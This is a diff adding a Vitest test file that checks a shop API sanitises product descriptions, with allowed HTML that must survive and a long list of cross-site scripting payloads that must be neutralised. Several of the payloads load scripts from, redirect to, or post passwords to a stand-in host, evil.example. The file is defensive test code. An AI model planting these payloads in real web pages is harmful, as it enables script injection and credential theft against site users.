@@ -1,0 +1,104 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { Product } from '../../shared/catalog/schema.ts'
+import { call } from '../../tests/support/api.ts'
+import { buildProduct } from '../../tests/support/products.ts'
+import { createTestApp, type TestApp } from '../../tests/support/test-app.ts'
+
+let market: TestApp
+beforeAll(async () => {
+  market = await createTestApp()
+})
+afterAll(() => market.close())
+
+/** What the shop shows of a description that reached the database unclean. */
+async function shown(product_desc: string): Promise<string> {
+  const { product_id } = await buildProduct(market, { product_desc })
+  const { status, body } = await call<Product>(market, 'GET', `/api/products/${product_id}`)
+  expect(status, JSON.stringify(body)).toBe(200)
+  return body.product_desc
+}
+
+describe('E6: a description is cleaned when it is shown', () => {
+  test.each([
+    '<h2>Bright</h2><p>A <strong>very</strong> <em>good</em> <u>thing</u>.<br />Really.</p>',
+    '<ul><li>one</li><li>two</li></ul><ol><li>three</li></ol><blockquote>said</blockquote>',
+    '<pre><code>a &lt; b &amp;&amp; c</code></pre>',
+    '<img src="/storage/v1/object/public/products/PRD00001/featured_image" alt="a lamp" loading="lazy" />',
+    '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer ugc">there</a>',
+    'plain text, 3 > 2',
+  ])('%s stays', async (html) => {
+    const once = await shown(html)
+    expect(once).toBe(html.replace('3 > 2', '3 &gt; 2'))
+    expect(await shown(once)).toBe(once)
+  })
+
+  // What must never be in the answer as markup, whatever way it was hidden.
+  const live =
+    /<(?!\/?(?:p|br|hr|h[234]|blockquote|pre|code|ul|ol|li|b|strong|i|em|u|s|sub|sup|a|img)[\s/>])|<[^>]*\s(?:on\w+|style|srcset|class|id|target|formaction)\s*=|(?:href|src)="(?!https?:|mailto:|\/storage\/v1\/object\/public\/products\/)/i
+
+  test.each([
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="https://evil.example/pixel.gif">',
+    '<img src="//evil.example/pixel.gif">',
+    '<img src="/storage/v1/object/public/products/../../../logout">',
+    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+    '<svg onload=alert(1)><circle/></svg>',
+    '<svg><style><img src=x onerror=alert(1)></style></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="/account/delete">x</a>',
+    '<a href="https://example.com" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
+    '<p style="background:url(https://evil.example)">x</p>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x"></object><embed src="x">',
+    '<form action="https://evil.example"><input name="password"><button formaction="x">Sign in</button></form>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>@import "https://evil.example/x.css";</style>',
+    '<video><source onerror="alert(1)"></video>',
+    '<details open ontoggle=alert(1)>x</details>',
+    '<!--><script>alert(1)</script>-->',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<p id="root" class="fixed inset-0">x</p>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<b/onclick=alert(1)>x</b>',
+    '<img\x0csrc=x\x0conerror=alert(1)>',
+  ])('%s does nothing', async (html) => {
+    const clean = await shown(`<p>before</p>${html}<p>after</p>`)
+    expect(clean).toContain('<p>before</p>')
+    expect(clean).not.toMatch(live)
+    expect(await shown(clean)).toBe(clean)
+  })
+
+  test('what is not allowed is shown as text', async () => {
+    expect(await shown('<marquee>Sale</marquee>')).toBe('&lt;marquee&gt;Sale&lt;/marquee&gt;')
+  })
+
+  test('the one h1 of the page is its own', async () => {
+    expect(await shown('<h1>Big</h1>')).toBe('<h2>Big</h2>')
+  })
+
+  test('nesting ends at 50, the text stays', async () => {
+    const deep = await shown(`${'<b>'.repeat(400)}deep${'</b>'.repeat(400)}`)
+    expect(deep.match(/<b>/g)).toHaveLength(50)
+    expect(deep).toContain('deep')
+  })
+
+  test('50 kB of the worst are cleaned without a pause', async () => {
+    for (const worst of ['<', '<a ', '<p><p ', '&', '<b>', '<!--', '"', '<a href="'])
+      expect(typeof (await shown(worst.repeat(Math.floor(50_000 / worst.length))))).toBe('string')
+  })
+})
